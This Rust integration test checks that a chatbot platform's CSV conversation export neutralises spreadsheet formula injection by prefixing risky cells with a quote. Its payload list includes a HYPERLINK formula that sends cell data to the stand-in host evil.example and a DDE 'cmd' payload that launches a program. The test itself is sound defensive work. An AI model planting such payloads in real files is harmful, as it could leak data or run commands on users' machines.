//! Issue 23 #2: a conversation's CSV export goes through the platform's CSV
//! writer, so a chat message that a spreadsheet would run as a formula comes
//! out as text.

use frontline_platform::testing::TestApp;
use poem::http::StatusCode;
use serde_json::{json, Value};

const B: &str = "/chatbot/api/v2";

#[tokio::test]
async fn formula_messages_are_neutralised_in_the_csv_export() {
    let app = TestApp::new(vec![frontline_chatbot::module()]).await;
    let (uid, _) = app.user_with(&[]).await;
    let email = app
        .platform
        .auth
        .get_user(&uid)
        .await
        .unwrap()
        .unwrap()
        .email;
    let resp = app
        .client
        .post(format!("{B}/tenants"))
        .header("Authorization", format!("Bearer {}", app.admin_token))
        .body_json(&json!({"name": "Acme", "plan": "enterprise", "admin_user": {"email": email}}))
        .send()
        .await;
    resp.assert_status(StatusCode::CREATED);
    let t: Value = resp.0.into_body().into_json().await.unwrap();
    let key = format!(
        "ApiKey {}",
        t["data"]["api_keys"]["primary"].as_str().unwrap()
    );
    let payloads = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ];
    for (i, text) in payloads.iter().enumerate() {
        let r = app
            .client
            .post(format!("{B}/chat/message"))
            .header("Authorization", key.clone())
            .body_json(&json!({"message_id": format!("m{i}"), "conversation_id": "conv_x", "user_id": "visitor_1",
                "channel": "web", "content": {"type": "text", "text": text}}))
            .send()
            .await;
        r.assert_status_is_ok();
    }
    let r = app
        .client
        .post(format!("{B}/conversations/conv_x/export"))
        .header("Authorization", key.clone())
        .body_json(&json!({"format": "csv"}))
        .send()
        .await;
    r.assert_status_is_ok();
    let e: Value = r.0.into_body().into_json().await.unwrap();
    let csv = app
        .client
        .get(e["data"]["download_url"].as_str().unwrap())
        .send()
        .await
        .0
        .into_body()
        .into_string()
        .await
        .unwrap();
    // Read it back as a spreadsheet would: every text cell of the user's
    // messages starts with the quote, none with a formula trigger.
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = header.iter().position(|h| h == "text").unwrap();
    let texts: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[col].to_string())
        .collect();
    for text in payloads {
        assert!(
            texts.contains(&format!("'{text}")),
            "{text:?} not neutralised in:\n{csv}"
        );
    }
    for t in &texts {
        assert!(
            !t.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{t:?} would run as a formula"
        );
    }
}
